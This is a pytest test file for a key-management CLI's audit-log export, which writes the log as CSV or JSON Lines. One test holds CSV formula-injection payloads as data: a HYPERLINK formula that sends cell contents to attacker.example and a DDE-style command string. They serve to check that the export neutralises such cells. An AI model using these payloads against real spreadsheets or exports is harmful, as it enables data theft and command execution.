"""`keyrack audit export`: the log as JSON Lines or CSV, oldest first, from the real CLI."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest

from app.audit.models import AuditEntry
from app.cli import main
from app.settings import Settings
from tests.audit import all_entries, keyrack, organization_pk
from tests.support import (
    CREATE_KEY_SET,
    GraphQL,
    Person,
    create_key_set,
    create_organization,
    create_system,
    sign_up,
)

KEY_PATTERN = re.compile(r"kr[os]_[0-9A-Za-z]{49}")
COLUMNS = [
    "id",
    "sequence",
    "action",
    "occurredAt",
    "actorId",
    "organizationId",
    "systemId",
    "keySetId",
    "targetLabel",
    "ipAddress",
    "userAgent",
    "details",
    "prevHash",
    "hash",
]
REVOKE_KEY_SET = """
mutation Revoke($input: RevokeKeySetInput!) {
  revokeKeySet(input: $input) { keySet { status } userErrors { code } }
}
"""
KEY_VALUES = """
query KeyValues($id: ID!) { keySet(id: $id) { primaryKey { value } } }
"""


async def organization_with_history(gql: GraphQL) -> tuple[Person, str]:
    """An organization with systems and key sets created, revealed and revoked."""
    owner = await sign_up(gql, "owner")
    organization_id = await create_organization(owner, 'Acme, "Quoted"\nand multi-line')
    system_id = await create_system(owner, organization_id)
    created = await create_key_set(owner, systemId=system_id, label="Deploy, nightly")
    await owner.gql(KEY_VALUES, {"id": created["keySet"]["id"]})
    await owner.gql.mutate(
        "revokeKeySet",
        REVOKE_KEY_SET,
        {"keySetId": created["keySet"]["id"], "confirmLabel": "Deploy, nightly", "reason": "é"},
    )
    return owner, organization_id


def as_exported(entry: dict[str, Any]) -> dict[str, Any]:
    """What the export should hold for an entry read through GraphQL (bar the hashes)."""

    def related(name: str) -> str | None:
        return entry[name]["id"] if entry[name] else None

    return {
        "id": entry["id"],
        "sequence": entry["sequence"],
        "action": entry["action"],
        "occurredAt": datetime.fromisoformat(entry["occurredAt"]),
        "actorId": related("actor"),
        "organizationId": related("organization"),
        "systemId": related("system"),
        "keySetId": related("keySet"),
        "targetLabel": entry["targetLabel"],
        "ipAddress": entry["ipAddress"],
        "userAgent": entry["userAgent"],
        "details": entry["details"],
    }


def without_hashes(record: dict[str, Any]) -> dict[str, Any]:
    kept = {k: v for k, v in record.items() if k not in ("prevHash", "hash")}
    kept["occurredAt"] = datetime.fromisoformat(kept["occurredAt"])
    return kept


def jsonl_records(stdout: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in stdout.splitlines()]


def csv_records(stdout: str) -> list[dict[str, Any]]:
    rows = list(csv.reader(io.StringIO(stdout, newline="")))
    assert rows[0] == COLUMNS
    records = []
    for row in rows[1:]:
        record: dict[str, Any] = {c: value or None for c, value in zip(COLUMNS, row, strict=True)}
        record["sequence"] = int(record["sequence"])
        record["details"] = json.loads(record["details"])
        records.append(record)
    return records


@pytest.mark.parametrize("format", ["jsonl", "csv"])
async def test_the_export_holds_every_entry_oldest_first_as_graphql_shows_it(
    gql: GraphQL, settings: Settings, tmp_path: Path, format: str
) -> None:
    # given
    owner, organization_id = await organization_with_history(gql)
    expected = [as_exported(e) for e in reversed(await all_entries(owner, organization_id))]

    # when
    result = await keyrack(
        settings, tmp_path, "audit", "export", "--organization", organization_id, "--format", format
    )

    # then
    assert result.returncode == 0, result.stderr
    records = jsonl_records(result.stdout) if format == "jsonl" else csv_records(result.stdout)
    assert [without_hashes(r) for r in records] == expected
    assert [r["prevHash"] for r in records] == ["0" * 64] + [r["hash"] for r in records[:-1]]
    assert {e["action"] for e in expected} >= {"KEY_REVEALED", "KEY_SET_REVOKED"}
    assert KEY_PATTERN.findall(result.stdout) == []


FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A9)"]


async def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
    gql: GraphQL, settings: Settings, tmp_path: Path
) -> None:
    # given: labels and a user agent that spreadsheets take for formulas
    owner = await sign_up(gql, "owner")
    organization_id = await create_organization(owner)
    for label in FORMULAS:
        await create_key_set(owner, organizationId=organization_id, label=label)
    await owner.gql.raw(
        CREATE_KEY_SET,
        {"input": {"organizationId": organization_id, "label": "plain"}},
        **{"user-agent": "\t=cmd|' /C calc'!A0"},
    )

    # when
    exported = {
        format: await keyrack(
            settings,
            tmp_path,
            "audit",
            "export",
            "--organization",
            organization_id,
            "--format",
            format,
        )
        for format in ("csv", "jsonl")
    }

    # then: CSV cells start with an apostrophe; JSON Lines keep the text as it was
    rows = list(csv.reader(io.StringIO(exported["csv"].stdout, newline="")))
    labels = [row[COLUMNS.index("targetLabel")] for row in rows[1:]]
    agents = [row[COLUMNS.index("userAgent")] for row in rows[1:]]
    assert [label for label in labels if label.lstrip("'") in FORMULAS] == [
        "'" + formula for formula in FORMULAS
    ]
    assert "'\t=cmd|' /C calc'!A0" in agents
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row)
    raw = [record["targetLabel"] for record in jsonl_records(exported["jsonl"].stdout)]
    assert raw[-len(FORMULAS) - 1 : -1] == FORMULAS


async def test_since_and_until_bound_the_export_in_any_time_zone(
    gql: GraphQL, settings: Settings, tmp_path: Path
) -> None:
    # given
    owner, organization_id = await organization_with_history(gql)
    entries = list(reversed(await all_entries(owner, organization_id)))
    third = datetime.fromisoformat(entries[2]["occurredAt"])
    in_tokyo = third.astimezone(timezone(timedelta(hours=9))).isoformat()
    naive_utc = third.astimezone(UTC).replace(tzinfo=None).isoformat()

    async def exported(*bounds: str) -> list[int]:
        result = await keyrack(
            settings, tmp_path, "audit", "export", "--organization", organization_id, *bounds
        )
        assert result.returncode == 0, result.stderr
        return [record["sequence"] for record in jsonl_records(result.stdout)]

    # when
    since_tokyo = await exported("--since", in_tokyo)
    since_naive = await exported("--since", naive_utc)
    until = await exported("--until", in_tokyo)
    window = await exported("--since", in_tokyo, "--until", in_tokyo)

    # then
    total = len(entries)
    assert since_tokyo == since_naive == list(range(3, total + 1))
    assert until == [1, 2]
    assert window == []


async def test_an_export_longer_than_one_batch_streams_every_entry_once(
    gql: GraphQL, settings: Settings, tmp_path: Path
) -> None:
    # given: 2,500 entries, more than two of the export's fetches
    owner = await sign_up(gql, "owner")
    organization_id = await create_organization(owner)
    pk = organization_pk(organization_id)
    start = datetime.now(UTC)
    await AuditEntry.bulk_create(
        [
            AuditEntry(
                organization_id=pk,
                sequence=sequence,
                action="KEY_REVEALED",
                occurred_at=start + timedelta(milliseconds=sequence),
                details={"n": sequence},
                prev_hash="-",
                hash="-",
                chain_key_id="-",
            )
            for sequence in range(3, 2501)
        ],
        batch_size=500,
    )

    # when
    result = await keyrack(
        settings, tmp_path, "audit", "export", "--organization", organization_id, "--format", "csv"
    )

    # then
    assert result.returncode == 0, result.stderr
    records = csv_records(result.stdout)
    assert [r["sequence"] for r in records] == list(range(1, 2501))
    assert [r["details"].get("n") for r in records[2:]] == list(range(3, 2501))


async def test_an_unknown_organization_fails_in_one_line(
    gql: GraphQL, settings: Settings, tmp_path: Path
) -> None:
    # given
    owner = await sign_up(gql, "owner")
    await create_organization(owner)

    # when
    result = await keyrack(settings, tmp_path, "audit", "export", "--organization", "424242")

    # then
    assert result.returncode == 1
    assert result.stdout == ""
    assert result.stderr.strip().splitlines()[-1] == "keyrack: No organization with this id."


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["export", "--organization", "nope"], "'nope' is not an organization id"),
        (["export", "--organization", "²"], "'²' is not an organization id"),
        (["export", "--organization", "1", "--since", "last tuesday"], "not an ISO 8601 time"),
        (["export", "--organization", "1", "--format", "xml"], "invalid choice: 'xml'"),
        (["export", "--format", "csv"], "the following arguments are required: --organization"),
        (["verify", "--organization", "Tm9wZTox"], "'Tm9wZTox' is not an organization id"),
    ],
    ids=[
        "malformed id",
        "unicode digit",
        "bad time",
        "bad format",
        "no organization",
        "wrong type",
    ],
)
def test_malformed_arguments_are_refused_before_any_database_work(
    capsys: pytest.CaptureFixture[str], arguments: list[str], message: str
) -> None:
    # when
    with pytest.raises(SystemExit) as exit_info:
        main(["audit", *arguments])

    # then
    assert exit_info.value.code == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    assert message in captured.err.strip().splitlines()[-1]
